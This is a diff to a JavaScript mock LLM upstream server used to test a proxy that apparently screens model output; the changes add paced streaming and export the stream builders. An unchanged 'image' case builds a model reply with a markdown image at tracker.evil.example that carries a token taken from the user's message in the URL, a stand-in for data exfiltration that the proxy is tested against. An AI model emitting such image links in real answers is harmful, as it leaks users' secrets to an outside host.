@@ -13,6 +13,9 @@
 //   short    a fixed 400-character answer (the benchmark);
 //   fail-500, fail-401, fail-garbage (200 with a body that is not JSON),
 //   fail-reset (closes the connection without an answer).
+// A stream goes out in one write; with "-paced" after the model name
+// (echo-paced, short-paced), one write per event, 1 ms apart (a model
+// that generates slower than the proxy screens).
 // Usage as a script: node tests/js/mock-upstream.mjs [PORT]
 import http from "node:http";
 
@@ -49,7 +52,7 @@ function texts(path, body) {
 function answer(path, body) {
   const { user, system } = texts(path, body);
   const echo = `You said: ${user}`;
-  switch (String(body.model ?? "echo")) {
+  switch (String(body.model ?? "echo").replace(/-paced$/, "")) {
     case "image": {
       const t = user.match(TOKEN_RE)?.[0] ?? user.slice(0, 40);
       return `${echo}\n\n![status](https://tracker.evil.example/pixel.png?d=${encodeURIComponent(t)})\n\nDone.`;
@@ -94,7 +97,8 @@ function responseJSON(model, text, status = "completed") {
   };
 }
 
-function chatEvents(model, text) {
+/** A chat completion as an event stream. */
+export function chatEvents(model, text) {
   const base = { id: "chatcmpl-mock", object: "chat.completion.chunk", created: 0, model };
   const ev = [{ ...base, choices: [{ index: 0, delta: { role: "assistant", content: "" }, finish_reason: null }] }];
   for (const c of chunks(text)) ev.push({ ...base, choices: [{ index: 0, delta: { content: c }, finish_reason: null }] });
@@ -102,7 +106,8 @@ function chatEvents(model, text) {
   return ev.map((e) => `data: ${JSON.stringify(e)}\n\n`).join("") + "data: [DONE]\n\n";
 }
 
-function responsesEvents(model, text) {
+/** A Responses API answer as an event stream. */
+export function responsesEvents(model, text) {
   let seq = 0;
   const item = { item_id: "msg_mock", output_index: 0, content_index: 0 };
   const ev = [
@@ -158,7 +163,13 @@ export function startMockUpstream({ port = 0 } = {}) {
     const responses = path === "/v1/responses";
     if (body.stream === true) {
       res.writeHead(200, { "content-type": "text/event-stream; charset=utf-8", "cache-control": "no-store", "x-request-id": "req_mock" });
-      return res.end(responses ? responsesEvents(model, text) : chatEvents(model, text));
+      const events = responses ? responsesEvents(model, text) : chatEvents(model, text);
+      if (!model.endsWith("-paced")) return res.end(events);
+      for (const ev of events.split(/(?<=\n\n)/)) {
+        res.write(ev);
+        await new Promise((r) => setTimeout(r, 1));
+      }
+      return res.end();
     }
     res.writeHead(200, { "content-type": "application/json", "x-request-id": "req_mock" });
     res.end(JSON.stringify(responses ? responseJSON(model, text) : chatJSON(model, text)));
